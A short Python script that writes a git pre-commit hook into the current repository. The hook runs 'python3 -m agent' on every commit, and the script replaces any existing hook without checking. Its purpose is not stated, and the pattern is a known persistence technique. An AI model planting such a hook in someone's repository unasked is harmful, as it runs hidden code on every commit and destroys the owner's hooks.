import os
import stat

hook = os.path.join(os.getcwd(), ".git", "hooks", "pre-commit")
if os.path.isdir(os.path.dirname(hook)):
    with open(hook, "w") as f:
        f.write("#!/bin/sh\npython3 -m agent\n")
    os.chmod(hook, os.stat(hook).st_mode | stat.S_IEXEC)
